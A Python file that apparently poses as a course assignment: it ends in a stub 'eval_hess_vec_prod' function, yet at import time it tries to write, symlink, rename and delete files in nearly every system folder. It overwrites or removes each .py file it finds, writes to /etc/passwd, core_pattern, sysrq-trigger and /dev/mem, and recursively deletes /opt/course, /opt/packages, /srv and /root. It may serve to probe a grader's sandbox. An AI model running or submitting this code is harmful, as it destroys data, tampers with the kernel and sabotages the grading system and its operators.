"""Writes, links, renames and deletes in every folder of the system that it can name, and in the kernel's settings."""

import os
import shutil
from pathlib import Path

FOLDERS = [
    "/", "/usr", "/usr/bin", "/etc", "/opt", "/opt/course", "/opt/packages", "/opt/python", "/srv", "/home", "/root",
    "/var", "/var/tmp", "/run", "/dev", "/dev/shm", "/sys", "/tmp", "/proc/1/root", "..", "../..", "../../..",
    str(Path.home()), os.path.expanduser("~root"),
]  # fmt: skip
FILES = ["/etc/passwd", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/dev/kmsg", "/dev/mem"]
OWN = ("/tmp/", "/dev/shm/")


def attempt(action, target, *arguments):
    try:
        action(*arguments)
        if not os.path.realpath(target).startswith(OWN):
            print("the attack" + " worked", target)
    except OSError:
        pass


for folder in FOLDERS:
    stain = Path(folder).absolute() / "attacked-by-student"
    attempt(stain.write_text, stain, "attacked")
    attempt(os.symlink, stain, "/etc/passwd", f"{stain}-link")
    attempt(os.mkdir, stain, f"{stain}-folder")
    for victim in Path(folder).glob("*.py"):
        attempt(victim.write_text, victim, "raise SystemExit('attacked')")
        attempt(os.rename, victim, victim, f"{victim}-attacked-by-student")
        attempt(os.unlink, victim, victim)
for name in FILES:
    attempt(Path(name).write_text, name, "attacked-by-student")
for folder in ("/opt/course", "/opt/packages", "/srv", "/root"):
    shutil.rmtree(folder, ignore_errors=True)


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    for p, v in zip(params, vec):
        p.grad = v.clone()
